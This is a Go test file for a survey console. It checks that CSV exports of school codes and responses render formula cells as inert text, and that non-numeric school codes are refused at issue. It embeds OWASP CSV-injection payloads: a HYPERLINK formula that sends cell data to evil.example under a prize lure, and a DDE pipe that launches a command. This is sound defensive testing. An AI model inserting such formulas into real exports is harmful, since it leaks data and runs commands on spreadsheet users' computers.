package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"renke/survey"
)

// The OWASP payloads of the hardening issue.
const (
	hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"点此领奖")`
	cmdPipe   = `+cmd|' /C calc'!A0`
	atSum     = `@SUM(1)`
)

// formulaCells returns every cell of a CSV download a spreadsheet would
// evaluate: one that begins with =, +, -, @, tab or CR and is not a number.
func formulaCells(t *testing.T, body []byte) (cells []string, rows [][]string) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v", err)
	}
	for _, r := range rows {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && strings.Trim(c, "+-0123456789.eE") != "" {
				cells = append(cells, c)
			}
		}
	}
	return cells, rows
}

// TestCSVDownloadsHoldNoFormula: codes stored before school codes were
// restricted (a formula as code, name and township) come out of codes.csv
// and export.csv as text a spreadsheet does not evaluate.
func TestCSVDownloadsHoldNoFormula(t *testing.T) {
	f := newConsoleFixture(t)
	ctx := context.Background()
	sv := f.survey(f.home.ID)
	if err := sv.Transition(survey.Open, time.Now()); err != nil {
		t.Fatal(err)
	}
	if err := f.store.UpdateSurvey(ctx, sv, survey.Draft); err != nil {
		t.Fatal(err)
	}
	code := survey.Code{Code: survey.NewToken(), SurveyID: sv.ID, Kind: survey.SharedCode, Group: survey.Parent,
		School: hyperlink, SchoolName: atSum, Township: cmdPipe, Urbanicity: survey.Urban, Band: survey.BandUpper,
		Quota: 5, Batch: "b1", Created: time.Now()}
	if err := f.store.InsertCodes(ctx, []survey.Code{code}); err != nil {
		t.Fatal(err)
	}
	f.respond(sv, code.Code, survey.Parent)
	coord, eval := f.login("coord"), f.login("eval")
	for _, path := range []string{"/codes.csv", "/export.csv"} {
		c := coord
		if path == "/export.csv" {
			c = eval
		}
		res, body := c.get("/console/surveys/" + sv.ID + path)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d %.300s", path, res.StatusCode, body)
		}
		bad, rows := formulaCells(t, body)
		if len(bad) > 0 {
			t.Errorf("%s has cells a spreadsheet evaluates: %q", path, bad)
		}
		if len(rows) != 2 {
			t.Errorf("%s: %d rows, want header and one row", path, len(rows))
		}
		if !bytes.Contains(body, []byte("'"+hyperlink[:10])) {
			t.Errorf("%s does not keep the school code as text: %.400s", path, body)
		}
	}
}

// TestIssueRefusesFormulaSchoolCode: a school code that is not digits and
// letters is refused at issue, with the rule in Chinese, and nothing is made.
func TestIssueRefusesFormulaSchoolCode(t *testing.T) {
	f := newConsoleFixture(t)
	c := f.login("coord")
	for _, school := range []string{hyperlink, "-A1-A2", "S 001", "学校001", strings.Repeat("1", 21)} {
		res, body := c.json("POST", "/api/v1/surveys/"+f.home.ID+"/codes", map[string]any{"kind": "shared", "group": "parent",
			"school": school, "school_name": "城关小学", "urbanicity": "城区", "quota": 5})
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(string(body), "学校代码应为 10 位全国学校标识码") {
			t.Errorf("school %q: %d %.300s", school, res.StatusCode, body)
		}
	}
	res, body := c.json("POST", "/api/v1/surveys/"+f.home.ID+"/codes", map[string]any{"kind": "shared", "group": "parent",
		"school": "5001030001", "school_name": "城关小学", "urbanicity": "城区", "quota": 5})
	if res.StatusCode != http.StatusCreated && res.StatusCode != http.StatusOK {
		t.Fatalf("national identifier: %d %.300s", res.StatusCode, body)
	}
}
